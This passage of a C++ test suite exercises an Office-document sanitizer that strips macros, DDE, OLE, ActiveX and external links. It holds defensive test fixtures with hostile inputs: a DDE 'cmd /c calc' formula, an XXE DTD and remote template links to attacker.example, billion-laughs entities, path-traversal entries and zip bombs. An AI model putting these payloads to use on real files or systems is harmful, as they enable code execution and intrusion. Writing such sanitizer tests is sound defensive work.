  const std::vector<std::pair<std::string, std::string>> names = {
      {"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
       "http://purl.oclc.org/ooxml/officeDocument/relationships"},
      {"http://schemas.openxmlformats.org/presentationml/2006/main",
       "http://purl.oclc.org/ooxml/presentationml/main"},
      {"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
       "http://purl.oclc.org/ooxml/spreadsheetml/main"},
      {"http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing",
       "http://purl.oclc.org/ooxml/drawingml/spreadsheetDrawing"},
      {"http://schemas.openxmlformats.org/drawingml/2006/main",
       "http://purl.oclc.org/ooxml/drawingml/main"},
  };
  for (auto& [name, bytes] : files) {
    for (const auto& [from, to] : names) {
      for (std::size_t at = bytes.find(from); at != std::string::npos;
           at = bytes.find(from, at + to.size())) {
        bytes.replace(at, from.size(), to);
      }
    }
  }
  return files;
}

TEST_SUITE("ooxml") {
  TEST_CASE("ooxml: with web_links = remove, hyperlinks to http(s) go too, their text stays") {
    const std::string input = makeZip(hostileDocm());
    const mugai::core::Policy policy =
        mugai::core::Policy::fromConfig("web_links = remove", "t.conf");
    const Limits limits;
    PartInput in;
    in.bytes = input;
    in.trueType = "docm";
    in.declaredType = "application/octet-stream";
    in.names = {"report.docm"};
    in.limits = &limits;
    in.policy = &policy;
    const PartOutput o = OoxmlSanitizer{}.sanitize(in);
    REQUIRE_MESSAGE(o.disposition == Disposition::Rebuilt, o.reason);
    const Files out = readZip(o.bytes);
    for (const RelRow& r : relsOf(out)) {
      CAPTURE(r.target);
      CHECK(r.mode != "External");
      CHECK(r.target.find("example.jp") == std::string::npos);
    }
    const std::string* doc = entry(out, "word/document.xml");
    REQUIRE(doc != nullptr);
    CHECK(textOf(*doc, "t").find("good link") != std::string::npos);
    CHECK(hasFinding(o, "ooxml.external_reference_removed"));
  }

  TEST_CASE("ooxml: a .docm loses its macros, template, altChunk and DDE and becomes a .docx") {
    const std::string input = makeZip(hostileDocm());
    REQUIRE(mugai::core::sniff(input, Limits{}) == "docm");
    const PartOutput o = run(input, "docm", "report.docm");
    REQUIRE_MESSAGE(o.disposition == Disposition::Rebuilt, o.reason);
    CHECK(o.contentType ==
          "application/vnd.openxmlformats-officedocument.wordprocessingml.document");
    CHECK(o.filename == "report.docx");
    CHECK(mugai::core::sniff(o.bytes, Limits{}) == "docx");

    const Files out = readZip(o.bytes);
    REQUIRE(!out.empty());
    CHECK(out.front().first == "[Content_Types].xml");
    CHECK_FALSE(hasEntryContaining(out, "vbaproject"));
    CHECK_FALSE(hasEntryContaining(out, "afchunk"));
    CHECK(entry(out, "word/media/image1.png") != nullptr);
    if (const std::string* png = entry(out, "word/media/image1.png")) CHECK(*png == kPng);

    const std::string* ct = entry(out, "[Content_Types].xml");
    REQUIRE(ct != nullptr);
    CHECK(ct->find("macroEnabled") == std::string::npos);
    CHECK(ct->find("wordprocessingml.document.main+xml") != std::string::npos);
    CHECK(ct->find("vbaProject") == std::string::npos);

    const std::string* doc = entry(out, "word/document.xml");
    REQUIRE(doc != nullptr);
    const std::string text = textOf(*doc, "t");
    CHECK(text == "Hellogood linkbad linkRESULTSIMPLE7");
    CHECK(textOf(*doc, "instrText").empty());
    CHECK(countElements(*doc, "fldChar") == 0);
    CHECK(countElements(*doc, "fldSimple") == 1);  // the PAGE field stays
    CHECK(countElements(*doc, "altChunk") == 0);
    CHECK(countElements(*doc, "blip") == 1);

    const std::string* settings = entry(out, "word/settings.xml");
    REQUIRE(settings != nullptr);
    CHECK(countElements(*settings, "attachedTemplate") == 0);

    bool httpsKept = false;
    for (const RelRow& r : relsOf(out)) {
      CHECK_MESSAGE(externalTargetIsWebOrMail(r), r.part, " ", r.target);
      CHECK(r.type.find("vbaProject") == std::string::npos);
      CHECK(r.type.find("attachedTemplate") == std::string::npos);
      if (r.target == "https://example.jp/a?b=1&c=2" && r.mode == "External") httpsKept = true;
    }
    CHECK(httpsKept);

    const auto problems = activeContent(out);
    CHECK_MESSAGE(problems.empty(), (problems.empty() ? "" : problems.front()));
    for (const char* code : {"ooxml.vba_removed", "ooxml.external_reference_removed",
                             "ooxml.altchunk_removed", "ooxml.dde_removed",
                             "ooxml.macro_free_conversion"}) {
      CHECK_MESSAGE(hasFinding(o, code), code);
    }
  }

  TEST_CASE("ooxml: the rebuild is deterministic and a fixed point") {
    const std::string input = makeZip(hostileDocm());
    const PartOutput a = run(input, "docm", "x.docm");
    const PartOutput b = run(input, "docm", "x.docm");
    REQUIRE(a.disposition == Disposition::Rebuilt);
    CHECK(a.bytes == b.bytes);
    const PartOutput again = run(a.bytes, "docx", "x.docx");
    REQUIRE(again.disposition == Disposition::Rebuilt);
    CHECK(again.bytes == a.bytes);
    CHECK(again.findings.empty());
  }

  TEST_CASE("ooxml: a DOCTYPE or ENTITY in any kept part removes the file") {
    struct Row {
      const char* name;
      std::string doctype;
    };
    const std::vector<Row> rows = {
        {"billion laughs",
         "<!DOCTYPE w:document [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;\">]>"},
        {"external entity", "<!DOCTYPE w:document SYSTEM \"http://attacker.example/x.dtd\">"},
    };
    for (const Row& row : rows) {
      const std::string rowName = row.name;
      CAPTURE(rowName);
      Files files = hostileDocm();
      for (auto& [n, b] : files) {
        if (n == "word/document.xml") b.insert(b.find("<w:document"), row.doctype);
      }
      const PartOutput o = run(makeZip(files), "docm", "a.docm");
      CHECK(o.disposition == Disposition::Removed);
      CHECK(o.reason == "ooxml.dtd");
      CHECK(o.bytes.empty());
    }
    // The same in UTF-16, where a byte search for "<!DOCTYPE" would miss it.
    Files files = hostileDocm();
    for (auto& [n, b] : files) {
      if (n != "word/settings.xml") continue;
      std::string s = "<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE x [<!ENTITY e \"e\">]>"
                      "<w:settings xmlns:w=\"" + std::string(kW) + "\">&e;</w:settings>";
      b = "\xFF\xFE";
      for (const char c : s) {
        b += c;
        b += '\0';
      }
    }
    const PartOutput o = run(makeZip(files), "docm", "a.docm");
    CHECK(o.disposition == Disposition::Removed);
    CHECK(o.reason == "ooxml.dtd");
  }

  TEST_CASE("ooxml: malformed XML in a kept part removes the file") {
    Files files = hostileDocm();
    for (auto& [n, b] : files) {
      if (n == "word/document.xml") b = wordDoc("<w:p><w:r></w:p>");
    }
    const PartOutput o = run(makeZip(files), "docm", "a.docm");
    CHECK(o.disposition == Disposition::Removed);
    CHECK(o.reason == "ooxml.invalid_xml");
  }

  TEST_CASE("ooxml: element depth and part size limits at N and N+1") {
    Files files = hostileDocm();
    for (auto& [n, b] : files) {
      if (n == "word/settings.xml") {
        b = std::string(kDecl) + "<w:settings xmlns:w=\"" + kW + "\">" +
            [] {
              std::string s;
              for (int i = 0; i < 20; ++i) s += "<w:x>";
              for (int i = 0; i < 20; ++i) s += "</w:x>";
              return s;
            }() + "</w:settings>";
      }
    }
    const std::string input = makeZip(files);
    Limits ok;
    ok.maxXmlDepth = 21;  // settings + 20 nested elements
    CHECK(run(input, "docm", "a.docm", ok).disposition == Disposition::Rebuilt);
    Limits tight;
    tight.maxXmlDepth = 20;
    const PartOutput o = run(input, "docm", "a.docm", tight);
    CHECK(o.disposition == Disposition::Removed);
    CHECK(o.reason == "limit.xml_depth");

    std::size_t docSize = 0;
    for (const auto& [n, b] : files) {
      if (n == "word/document.xml") docSize = b.size();
    }
    Limits bytesOk;
    bytesOk.maxXmlBytes = docSize;
    CHECK(run(input, "docm", "a.docm", bytesOk).disposition == Disposition::Rebuilt);
    Limits bytesTight;
    bytesTight.maxXmlBytes = docSize - 1;
    CHECK(run(input, "docm", "a.docm", bytesTight).reason == "limit.xml_bytes");
  }

  TEST_CASE("ooxml: entry count limit at N and N+1") {
    const Files files = hostileDocm();
    const std::string input = makeZip(files);
    Limits ok;
    ok.maxArchiveEntries = static_cast<std::uint32_t>(files.size());
    CHECK(run(input, "docm", "a.docm", ok).disposition == Disposition::Rebuilt);
    Limits tight;
    tight.maxArchiveEntries = static_cast<std::uint32_t>(files.size() - 1);
    const PartOutput o = run(input, "docm", "a.docm", tight);
    CHECK(o.disposition == Disposition::Removed);
    CHECK(o.reason == "ooxml.too_many_entries");
  }

  TEST_CASE("ooxml: zip-level attacks are refused like a zip bomb") {
    struct Row {
      const char* name;
      std::pair<std::string, std::string> extra;
      const char* reason;
    };
    const std::vector<Row> rows = {
        {"traversal", {"../../evil.xml", "<x/>"}, "ooxml.path_traversal"},
        {"absolute", {"/etc/evil.xml", "<x/>"}, "ooxml.path_traversal"},
        {"backslash", {"word\\..\\evil.xml", "<x/>"}, "ooxml.path_traversal"},
        {"case duplicate", {"WORD/document.xml", "<x/>"}, "ooxml.duplicate_names"},
        {"ratio bomb", {"word/pad.xml", std::string(4u << 20, ' ')}, "ooxml.bomb"},
    };
    for (const Row& row : rows) {
      const std::string rowName = row.name;
      CAPTURE(rowName);
      Files files = hostileDocm();
      files.push_back(row.extra);
      const PartOutput o = run(makeZip(files), "docm", "a.docm");
      CHECK(o.disposition == Disposition::Removed);
      CHECK(o.reason == row.reason);
    }
    // Bytes before the first entry (a polyglot) and truncation.
    const std::string good = makeZip(hostileDocm());
    CHECK(run("MZ" + good, "docm", "a.docm").disposition == Disposition::Removed);
    CHECK(run(good.substr(0, good.size() / 2), "docm", "a.docm").disposition ==
          Disposition::Removed);
    CHECK(run("", "docx", "a.docx").disposition == Disposition::Removed);
  }

  TEST_CASE("ooxml: overlapping entries (a quine-style bomb) are refused") {
    // Two central-directory records pointing at the same local entry.
    std::string z = makeZip({{"[Content_Types].xml", "<x/>"}, {"a.xml", "<y/>"}});
    const std::size_t eocd = z.rfind(std::string("PK\x05\x06", 4));
    REQUIRE(eocd != std::string::npos);
    const std::size_t cd0 = z.find(std::string("PK\x01\x02", 4));
    const std::size_t cd1 = z.find(std::string("PK\x01\x02", 4), cd0 + 4);
    REQUIRE(cd1 != std::string::npos);
    // Point the second record's local-header offset at the first entry (offset 0).
    for (int i = 0; i < 4; ++i) z[cd1 + 42 + i] = '\0';
    const PartOutput o = run(z, "ooxml", "a.docx");
    CHECK(o.disposition == Disposition::Removed);
    CHECK((o.reason == "ooxml.bomb" || o.reason == "ooxml.invalid"));
  }

  TEST_CASE("ooxml: an .xlsm loses its macro sheet, Auto_Open, DDE formulas and external links") {
    const std::string r = kR;
    const std::string ns = std::string("xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/"
                                       "2006/main\" xmlns:r=\"") +
                           r.substr(0, r.size() - 1) + "\"";
    const std::string workbook =
        std::string(kDecl) + "<workbook " + ns +
        "><bookViews><workbookView activeTab=\"1\"/></bookViews><sheets>"
        "<sheet name=\"Macro1\" sheetId=\"1\" r:id=\"rId1\"/>"
        "<sheet name=\"Data\" sheetId=\"2\" r:id=\"rId2\"/></sheets>"
        "<externalReferences><externalReference r:id=\"rId4\"/></externalReferences>"
        "<definedNames><definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1</definedName>"
        "<definedName name=\"Auto_Open_x\" localSheetId=\"0\">Macro1!$A$2</definedName>"
        "<definedName name=\"Keep\" localSheetId=\"1\">Data!$A$1</definedName>"
        "<definedName name=\"Dde\">cmd|' /c calc'!A0</definedName></definedNames></workbook>";
    const std::string sheet =
        std::string(kDecl) + "<worksheet " + ns + "><sheetData><row r=\"1\">"
        "<c r=\"A1\"><f>cmd|' /c calc'!A0</f><v>42</v></c>"
        "<c r=\"A2\"><f>SUM(1,2)</f><v>3</v></c></row></sheetData></worksheet>";
    const std::string macro = std::string(kDecl) +
                              "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/"
                              "2006/main\"><sheetData/></xm:macrosheet>";
    const Files files = {
        {"[Content_Types].xml",
         contentTypes("application/vnd.ms-excel.sheet.macroEnabled.main+xml", "xl/workbook.xml",
                      "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/"
                      "vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>"
                      "<Override PartName=\"/xl/macrosheets/sheet1.xml\" ContentType=\"application/"
                      "vnd.ms-excel.macrosheet+xml\"/>")},
        {"_rels/.rels", rels({{"rId1", r + "officeDocument", "xl/workbook.xml"}})},
        {"xl/workbook.xml", workbook},
        {"xl/_rels/workbook.xml.rels",
         rels({{"rId1", std::string(kMs) + "xlMacrosheet", "macrosheets/sheet1.xml"},
               {"rId2", r + "worksheet", "worksheets/sheet1.xml"},
               {"rId3", std::string(kMs) + "vbaProject", "vbaProject.bin"},
               {"rId4", r + "externalLink", "externalLinks/externalLink1.xml"}})},
        {"xl/worksheets/sheet1.xml", sheet},
        {"xl/macrosheets/sheet1.xml", macro},
        {"xl/externalLinks/externalLink1.xml", "<externalLink/>"},
        {"xl/vbaProject.bin", "not really"},
    };
    const PartOutput o = run(makeZip(files), "xlsm", "book.xlsm");
    REQUIRE_MESSAGE(o.disposition == Disposition::Rebuilt, o.reason);
    CHECK(o.filename == "book.xlsx");
    CHECK(o.contentType == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    const Files out = readZip(o.bytes);
    CHECK_FALSE(hasEntryContaining(out, "macrosheet"));
    CHECK_FALSE(hasEntryContaining(out, "vbaproject"));
    CHECK_FALSE(hasEntryContaining(out, "externallink"));
    const std::string* wb = entry(out, "xl/workbook.xml");
    REQUIRE(wb != nullptr);
    CHECK(countElements(*wb, "sheet") == 1);
    CHECK(countElements(*wb, "externalReferences") == 0);
    CHECK(textOf(*wb, "definedName") == "Data!$A$1");
    {
      Xml x(*wb);
      REQUIRE(x.doc != nullptr);
      walk(xmlDocGetRootElement(x.doc), [](xmlNode* n) {
        const std::string_view name = reinterpret_cast<const char*>(n->name);
        if (name == "definedName") CHECK(attrOf(n, "localSheetId") == "0");
        if (name == "workbookView") CHECK(attrOf(n, "activeTab").empty());
      });
    }
    const std::string* ws = entry(out, "xl/worksheets/sheet1.xml");
    REQUIRE(ws != nullptr);
    CHECK(textOf(*ws, "f") == "SUM(1,2)");
    CHECK(textOf(*ws, "v") == "423");
    const std::string* ct = entry(out, "[Content_Types].xml");
    REQUIRE(ct != nullptr);
    CHECK(ct->find("macro") == std::string::npos);
    for (const char* code : {"ooxml.xlm_macro_removed", "ooxml.auto_macro_name_removed",
                             "ooxml.dde_formula_removed", "ooxml.external_link_removed",
                             "ooxml.vba_removed", "ooxml.macro_free_conversion"}) {
      CHECK_MESSAGE(hasFinding(o, code), code);
    }
  }

  TEST_CASE("ooxml: a .pptm loses program actions, ActiveX and OLE, keeps web links") {
    const std::string r = kR;
    const std::string pns =
        "xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\" "
        "xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:r=\"" +
        r.substr(0, r.size() - 1) + "\"";
    const std::string pres = std::string(kDecl) + "<p:presentation " + pns +
                             "><p:sldIdLst><p:sldId id=\"256\" r:id=\"rId1\"/></p:sldIdLst>"
                             "</p:presentation>";
    const std::string slide =
        std::string(kDecl) + "<p:sld " + pns + "><p:cSld><p:spTree>"
        "<p:sp><p:nvSpPr><p:cNvPr id=\"2\" name=\"run\">"
        "<a:hlinkClick r:id=\"rId2\" action=\"ppaction://program\"/></p:cNvPr></p:nvSpPr>"
        "<p:txBody><a:p><a:r><a:t>Click me</a:t></a:r></a:p></p:txBody></p:sp>"
        "<p:sp><p:nvSpPr><p:cNvPr id=\"3\" name=\"web\"><a:hlinkClick r:id=\"rId3\"/>"
        "</p:cNvPr></p:nvSpPr><p:txBody><a:p><a:r><a:t>Web</a:t></a:r></a:p></p:txBody></p:sp>"
        "<p:graphicFrame><a:graphic><a:graphicData><p:oleObj r:id=\"rId4\"/></a:graphicData>"
        "</a:graphic></p:graphicFrame>"
        "</p:spTree></p:cSld><p:controls><p:control r:id=\"rId5\"/></p:controls></p:sld>";
    const Files files = {
        {"[Content_Types].xml",
         contentTypes("application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
                      "ppt/presentation.xml",
                      "<Override PartName=\"/ppt/slides/slide1.xml\" ContentType=\"application/"
                      "vnd.openxmlformats-officedocument.presentationml.slide+xml\"/>")},
        {"_rels/.rels", rels({{"rId1", r + "officeDocument", "ppt/presentation.xml"}})},
        {"ppt/presentation.xml", pres},
        {"ppt/_rels/presentation.xml.rels",
         rels({{"rId1", r + "slide", "slides/slide1.xml"},
               {"rId9", std::string(kMs) + "vbaProject", "vbaProject.bin"}})},
        {"ppt/slides/slide1.xml", slide},
        {"ppt/slides/_rels/slide1.xml.rels",
         rels({{"rId2", r + "hyperlink", "calc.exe", "x"},
               {"rId3", r + "hyperlink", "https://example.jp/", "x"},
               {"rId4", r + "oleObject", "../embeddings/oleObject1.bin"},
               {"rId5", r + "control", "../activeX/activeX1.xml"}})},
        {"ppt/embeddings/oleObject1.bin", "ole"},
        {"ppt/activeX/activeX1.xml", "<ax/>"},
        {"ppt/vbaProject.bin", "vba"},
    };
    const PartOutput o = run(makeZip(files), "pptm", "deck.pptm");
    REQUIRE_MESSAGE(o.disposition == Disposition::Rebuilt, o.reason);
    CHECK(o.filename == "deck.pptx");
    const Files out = readZip(o.bytes);
    CHECK_FALSE(hasEntryContaining(out, "embeddings"));
    CHECK_FALSE(hasEntryContaining(out, "activex"));
    CHECK_FALSE(hasEntryContaining(out, "vbaproject"));
    const std::string* s = entry(out, "ppt/slides/slide1.xml");
    REQUIRE(s != nullptr);
    CHECK(s->find("ppaction://program") == std::string::npos);
    CHECK(countElements(*s, "hlinkClick") == 1);
    CHECK(countElements(*s, "oleObj") == 0);
    CHECK(countElements(*s, "control") == 0);
    CHECK(textOf(*s, "t") == "Click meWeb");
    const auto relRows = relsOf(out);
    CHECK(std::any_of(relRows.begin(), relRows.end(),
                      [](const RelRow& row) { return row.target == "https://example.jp/"; }));
    for (const RelRow& row : relRows) CHECK(externalTargetIsWebOrMail(row));
    for (const char* code : {"ooxml.action_removed", "ooxml.ole_removed", "ooxml.activex_removed",
                             "ooxml.vba_removed", "ooxml.external_reference_removed"}) {
      CHECK_MESSAGE(hasFinding(o, code), code);
    }
  }

  TEST_CASE("ooxml: a verified image is copied compressed; a wrong CRC removes the file") {
    // A PNG that deflates well (trailing zeros are still a PNG to the sniffer and to Office).
    const std::string png = kPng + std::string(8192, '\0');
    Files files = hostileDocm();
    for (auto& [name, bytes] : files) {
      if (name == "word/media/image1.png") bytes = png;
    }
    const std::string input = makeZip(files);
    auto statOf = [](const std::string& zip, const char* name) {
      zip_stat_t st;
      zip_stat_init(&st);
      zip_error_t err;
      zip_error_init(&err);
      zip_source_t* src = zip_source_buffer_create(zip.data(), zip.size(), 0, &err);
      zip_t* za = zip_open_from_source(src, ZIP_RDONLY, &err);
      zip_error_fini(&err);
      REQUIRE(za != nullptr);
      CHECK(zip_stat(za, name, 0, &st) == 0);
      zip_discard(za);
      return st;
    };
    const zip_stat_t in = statOf(input, "word/media/image1.png");
    REQUIRE(in.comp_method == ZIP_CM_DEFLATE);
    REQUIRE(in.comp_size < 1000);
    const PartOutput o = run(input, "docm", "report.docm");
    REQUIRE_MESSAGE(o.disposition == Disposition::Rebuilt, o.reason);
    const zip_stat_t out = statOf(o.bytes, "word/media/image1.png");
    CHECK(out.comp_method == in.comp_method);
    CHECK(out.comp_size == in.comp_size);
    CHECK(out.crc == in.crc);
    const Files outFiles = readZip(o.bytes);
    const std::string* copied = entry(outFiles, "word/media/image1.png");
    REQUIRE(copied != nullptr);
    CHECK(*copied == png);

    // The same archive with the image's CRC changed in both headers: the data no longer matches
    // what the archive claims, so nothing of it is copied and the file is removed.
    std::string bad = input;
    std::string crcBytes(4, '\0');
    for (int i = 0; i < 4; ++i) crcBytes[i] = static_cast<char>((in.crc >> (8 * i)) & 0xFF);
    std::string flipped = crcBytes;
    flipped[0] = static_cast<char>(flipped[0] ^ 1);
    int patched = 0;
    for (std::size_t at = bad.find(crcBytes); at != std::string::npos;
         at = bad.find(crcBytes, at + 4)) {
      bad.replace(at, 4, flipped);
      ++patched;
    }
    REQUIRE(patched == 2);  // local header and central directory
    const PartOutput refused = run(bad, "docm", "report.docm");
    CHECK(refused.disposition == Disposition::Removed);
    CHECK(refused.reason == "ooxml.invalid");
    CHECK(refused.bytes.empty());
  }

  TEST_CASE("ooxml: a part rebuilt byte for byte is copied compressed; a changed one is not") {
    // Parts laid out as Office writes them (CRLF after the declaration, nothing after the root),
    // deflated by zlib at level 9: the rebuild must give back the same bytes for styles.xml, and
    // then its compressed data too; document.xml loses a DDE field, so it is written anew.
    const std::string crlf = std::string(kDecl) + "\r\n";
    const std::string styles = crlf + "<w:styles xmlns:w=\"" + kW +
                               "\"><w:style w:type=\"paragraph\" w:styleId=\"a\"><w:name "
                               "w:val=\"Normal\"/></w:style></w:styles>";
    const std::string doc = crlf + wordDoc("<w:p>" + run_("本文") + "</w:p><w:p>" +
                                           fldChar("begin") + instr(" DDEAUTO cmd ") +
                                           fldChar("end") + "</w:p>")
                                       .substr(std::string(kDecl).size());
    const std::string r = kR;
    const std::vector<std::pair<std::string, std::string>> parts = {
        {"[Content_Types].xml",
         contentTypes("application/vnd.openxmlformats-officedocument.wordprocessingml."
                      "document.main+xml",
                      "word/document.xml",
                      "<Override PartName=\"/word/styles.xml\" ContentType=\"application/"
                      "vnd.openxmlformats-officedocument.wordprocessingml.styles+xml\"/>")},
        {"_rels/.rels", rels({{"rId1", r + "officeDocument", "word/document.xml"}})},
        {"word/_rels/document.xml.rels", rels({{"rId1", r + "styles", "styles.xml"}})},
        {"word/document.xml", doc},
        {"word/styles.xml", styles},
    };
    mugai::core::ZipWriter input;
    std::map<std::string, std::string> packed;
    for (const auto& [name, text] : parts) {
      packed[name] = mugai::testing::rawDeflate(text, 9);
      input.addCompressed(name, 8, packed[name], mugai::testing::crcOf(text), text.size());
    }
    const PartOutput o = run(input.finish(), "docx", "a.docx");
    REQUIRE_MESSAGE(o.disposition == Disposition::Rebuilt, o.reason);
    const Files out = readZip(o.bytes);
    const std::string* st = entry(out, "word/styles.xml");
    const std::string* d = entry(out, "word/document.xml");
    REQUIRE(st != nullptr);
    REQUIRE(d != nullptr);
    CHECK(*st == styles);
    CHECK(o.bytes.find(packed["word/styles.xml"]) != std::string::npos);
    CHECK(lowered(*d).find("dde") == std::string::npos);
    CHECK(d->find("本文") != std::string::npos);
    CHECK(d->starts_with(crlf));
    CHECK(d->back() == '>');
    CHECK(o.bytes.find(packed["word/document.xml"]) == std::string::npos);
  }

  TEST_CASE("ooxml: a relationship to a .rels part or [Content_Types].xml is dropped") {
    // OPC forbids both as relationship targets. Reached as a part, a .rels written in Office's
    // layout would come out of the rebuild unchanged — and be written beside the rebuilt .rels
    // under the same name, carrying every relationship the rebuild removed.
    const std::string r = kR;
    const std::string crlf = std::string(kDecl) + "\r\n";
    const auto officeRels = [&](const std::vector<std::vector<std::string>>& rows) {
      return crlf + rels(rows).substr(std::string(kDecl).size());
    };
    struct Row {
      const char* name;
      std::string rootRels, docRels;
    };
    const std::vector<Row> rows = {
        {"the document's own .rels",
         officeRels({{"rId1", r + "officeDocument", "word/document.xml"}}),
         officeRels({{"rId1", r + "styles", "_rels/document.xml.rels"},
                     {"rId2", r + "attachedTemplate", "http://attacker.example/t.dotm", "x"}})},
        {"[Content_Types].xml",
         officeRels({{"rId1", r + "officeDocument", "word/document.xml"}}),
         officeRels({{"rId1", r + "styles", "/[Content_Types].xml"},
                     {"rId2", r + "attachedTemplate", "http://attacker.example/t.dotm", "x"}})},
        {"the root .rels",
         officeRels({{"rId1", r + "officeDocument", "word/document.xml"},
                     {"rId2", "http://schemas.openxmlformats.org/package/2006/relationships/"
                              "metadata/core-properties", "_rels/.rels"},
                     {"rId3", r + "attachedTemplate", "http://attacker.example/t.dotm", "x"}}),
         officeRels({})},
    };
    for (const Row& row : rows) {
      const std::string rowName = row.name;
      CAPTURE(rowName);
      const Files files = {
          {"[Content_Types].xml",
           contentTypes("application/vnd.openxmlformats-officedocument.wordprocessingml."
                        "document.main+xml",
                        "word/document.xml")},
          {"_rels/.rels", row.rootRels},
          {"word/document.xml", wordDoc("<w:p>" + run_("本文") + "</w:p>")},
          {"word/_rels/document.xml.rels", row.docRels},
      };
      const PartOutput o = run(makeZip(files), "docx", "a.docx");
      REQUIRE_MESSAGE(o.disposition == Disposition::Rebuilt, o.reason);
      const Files out = readZip(o.bytes);
      std::set<std::string> names;
      for (const auto& f : out) CHECK_MESSAGE(names.insert(lowered(f.first)).second, f.first);
      for (const auto& f : out) CHECK_MESSAGE(f.second.find("attacker") == std::string::npos, f.first);
      CHECK(activeContent(out).empty());
      CHECK(hasFinding(o, "ooxml.part_removed"));
    }
  }

  TEST_CASE("ooxml: an entry whose data disagrees with its headers removes the file") {
    const std::string text = wordDoc("<w:p>" + run_("x") + "</w:p>");
    const std::string good = mugai::testing::rawDeflate(text);
    const std::uint32_t crc = mugai::testing::crcOf(text);
    struct Row {
      const char* name;
      std::string packed;
      std::uint32_t crc;
      std::uint64_t usize;
      const char* reason;
    };
    const std::vector<Row> rows = {
        {"as declared", good, crc, text.size(), ""},
        {"bytes hidden after the stream", good + "<script/>", crc, text.size(), "ooxml.invalid"},
        {"truncated stream", good.substr(0, good.size() - 2), crc, text.size(), "ooxml.invalid"},
        {"inflates to more than declared", good, crc, text.size() - 1, "ooxml.invalid"},
        {"inflates to less than declared", good, crc, text.size() + 1, "ooxml.invalid"},
        {"wrong CRC", good, crc ^ 1u, text.size(), "ooxml.invalid"},
    };
    const std::string r = kR;
    for (const Row& row : rows) {
      const std::string rowName = row.name;
      CAPTURE(rowName);
      mugai::core::ZipWriter z;
      z.add("[Content_Types].xml",
            contentTypes("application/vnd.openxmlformats-officedocument.wordprocessingml."
                         "document.main+xml",
                         "word/document.xml"),
            true);
      z.add("_rels/.rels", rels({{"rId1", r + "officeDocument", "word/document.xml"}}), true);
      z.addCompressed("word/document.xml", 8, row.packed, row.crc, row.usize);
      const PartOutput o = run(z.finish(), "docx", "a.docx");
      if (*row.reason == '\0') {
        CHECK(o.disposition == Disposition::Rebuilt);
      } else {
        CHECK(o.disposition == Disposition::Removed);
        CHECK(o.reason == row.reason);
      }
    }
  }

  TEST_CASE("ooxml: a local header that disagrees with the central directory removes the file") {
    const std::string good = makeZip(hostileDocm());
    REQUIRE(run(good, "docm", "a.docm").disposition == Disposition::Rebuilt);
    const std::size_t lho = good.find("PK\x03\x04");
    REQUIRE(lho == 0);
    struct Row {
      const char* name;
      std::size_t offset;  // in the first local header
    };
    for (const Row& row : {Row{"method", 8}, Row{"CRC-32", 14}, Row{"compressed size", 18},
                           Row{"size", 22}}) {
      const std::string rowName = row.name;
      CAPTURE(rowName);
      std::string bad = good;
      bad[row.offset] = static_cast<char>(bad[row.offset] ^ 0x10);
      const PartOutput o = run(bad, "docm", "a.docm");
      CHECK(o.disposition == Disposition::Removed);
      CHECK(o.reason == "ooxml.invalid");
    }
  }

  TEST_CASE("ooxml: a docx OLE object becomes a VML picture (w:pict) showing its preview") {
    const std::string r = kR;
    const std::string body =
        "<w:p><w:r><w:object w:dxaOrig=\"4150\" w:dyaOrig=\"310\" "
        "xmlns:v=\"urn:schemas-microsoft-com:vml\" "
        "xmlns:o=\"urn:schemas-microsoft-com:office:office\"><v:shape id=\"_x0000_i1025\" "
        "style=\"width:207.75pt;height:15.75pt\" o:ole=\"\"><v:imagedata r:id=\"rId4\" "
        "o:title=\"\"/></v:shape><o:OLEObject Type=\"Embed\" ProgID=\"Excel.Sheet.8\" "
        "ShapeID=\"_x0000_i1025\" DrawAspect=\"Content\" ObjectID=\"_1\" r:id=\"rId5\"/>"
        "</w:object></w:r></w:p>";
    const Files files = wordPackage(body,
                                    {{"rId4", r + "image", "media/image1.png"},
                                     {"rId5", r + "oleObject", "embeddings/sheet.xls"}},
                                    {{"word/media/image1.png", kPng},
                                     {"word/embeddings/sheet.xls", "\xD0\xCF\x11\xE0 xls"}});
    PartOutput o;
    const Files out = rebuildWithoutEmbeddings(files, o);
    const std::string* d = entry(out, "word/document.xml");
    REQUIRE(d != nullptr);
    CHECK(countElements(*d, "object") == 0);
    CHECK(countElements(*d, "OLEObject") == 0);
    CHECK(countElements(*d, "pict") == 1);
    Xml x(*d);
    REQUIRE(x.doc != nullptr);
    std::string embed;
    bool oleAttr = false, shapeInPict = false;
    walk(xmlDocGetRootElement(x.doc), [&](xmlNode* n) {
      const std::string_view name = reinterpret_cast<const char*>(n->name);
      if (name == "shape") {
        shapeInPict = n->parent != nullptr &&
                      std::string_view(reinterpret_cast<const char*>(n->parent->name)) == "pict";
        for (xmlAttr* a = n->properties; a != nullptr; a = a->next) {
          if (std::string_view(reinterpret_cast<const char*>(a->name)) == "ole") oleAttr = true;
        }
      }
      if (name == "imagedata") embed = attrOf(n, "id");
    });
    CHECK(shapeInPict);
    CHECK_FALSE(oleAttr);
    CHECK(imageBehind(out, "word/document.xml", embed) == kPng);
    CHECK(hasFinding(o, "ooxml.ole_removed"));
  }

  TEST_CASE("ooxml: a docx OLE object in DrawingML form (w:objectEmbed) keeps its w:drawing") {
    // ISO 29500's other w:object form: the preview is a DrawingML picture (w:drawing) and the
    // embedding is w:objectEmbed (or w:objectLink). Both links go; the picture stays in the run.
    const std::string r = kR;
    const std::string pic =
        "<w:drawing><wp:inline xmlns:wp=\"http://schemas.openxmlformats.org/drawingml/2006/"
        "wordprocessingDrawing\"><wp:extent cx=\"2638425\" cy=\"200025\"/><wp:docPr id=\"1\" "
        "name=\"Object 1\"/><a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/"
        "drawingml/2006/picture\"><pic:pic xmlns:pic=\"http://schemas.openxmlformats.org/"
